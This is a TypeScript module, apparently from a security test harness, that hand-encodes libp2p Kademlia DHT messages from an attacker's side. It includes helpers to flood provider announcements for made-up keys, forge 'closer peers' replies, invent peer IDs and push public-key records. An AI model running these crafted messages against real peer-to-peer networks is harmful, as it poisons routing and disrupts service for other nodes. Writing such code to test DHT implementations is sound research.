// Messages of the DHT (libp2p's kad-dht specification, "RPC messages") as an attacker writes them: length, then protobuf.
import { sha256 } from '@noble/hashes/sha2.js'
import { publicKeyToProtobuf } from '@libp2p/crypto/keys'
import { multiaddr } from '@multiformats/multiaddr'
import { concat } from 'uint8arrays/concat'
import { fromString } from 'uint8arrays/from-string'
import * as varint from 'uint8-varint'
import type { PeerId, PublicKey } from '@libp2p/interface'

const TYPE = { putValue: 0, addProvider: 2, getProviders: 3, findNode: 4 } as const
const FIELD = { type: 1, key: 2, record: 3, closer: 8, providers: 9 } as const
export const ADDRESS = multiaddr('/ip4/127.0.0.1/tcp/4001').bytes

/** A peer as messages name it. */
export interface Named {
  /** A multihash. */
  id: Uint8Array
  addresses: readonly Uint8Array[]
}

/** "I provide this key", each number another key, said so many times. */
export function provide (number: number, provider: PeerId, times = 1): Uint8Array {
  const cid = Uint8Array.of(1, 0x55, 0x12, 32, ...sha256(fromString(`attack ${number}`)))
  const named = { id: provider.toMultihash().bytes, addresses: [ADDRESS] }
  return provideAs(cid, Array.from({ length: times }, () => named))
}

/** "These provide this key", whatever it is. */
export function provideAs (cid: Uint8Array, providers: readonly Named[]): Uint8Array {
  return framed(concat([Uint8Array.of(FIELD.type << 3, TYPE.addProvider), bytesField(FIELD.key, cid), ...providers.map((peer) => peerField(FIELD.providers, peer))]))
}

/** What is answered to whoever asks who is closer to something: these. */
export function closerPeers (peers: readonly Named[]): Uint8Array {
  return framed(concat([Uint8Array.of(FIELD.type << 3, TYPE.findNode), ...peers.map((peer) => peerField(FIELD.closer, peer))]))
}

export function askProviders (cid: Uint8Array): Uint8Array {
  return framed(concat([Uint8Array.of(FIELD.type << 3, TYPE.getProviders), bytesField(FIELD.key, cid)]))
}

/** Nobody's: the hash of a key that does not exist. */
export function madeUpId (number: number): Uint8Array {
  return Uint8Array.of(0x12, 32, ...sha256(fromString(`nobody ${number}`)))
}

function peerField (field: number, { id, addresses }: Named): Uint8Array {
  return bytesField(field, concat([bytesField(1, id), ...addresses.map((address) => bytesField(2, address))]))
}

/** The peer's public key: a value that every js-libp2p node takes for valid. */
export function putValue (peer: PeerId): Uint8Array {
  const publicKey = publicKeyToProtobuf(peer.publicKey as PublicKey)
  const key = concat([fromString('/pk/'), peer.toMultihash().bytes])
  const record = concat([bytesField(1, key), bytesField(2, publicKey), bytesField(5, fromString(new Date().toISOString()))])
  return framed(concat([Uint8Array.of(FIELD.type << 3, TYPE.putValue), bytesField(FIELD.key, key), bytesField(FIELD.record, record)]))
}

function bytesField (field: number, bytes: Uint8Array): Uint8Array {
  return concat([Uint8Array.of(field << 3 | 2), varint.encode(bytes.length), bytes])
}

function framed (message: Uint8Array): Uint8Array {
  return concat([varint.encode(message.length), message])
}
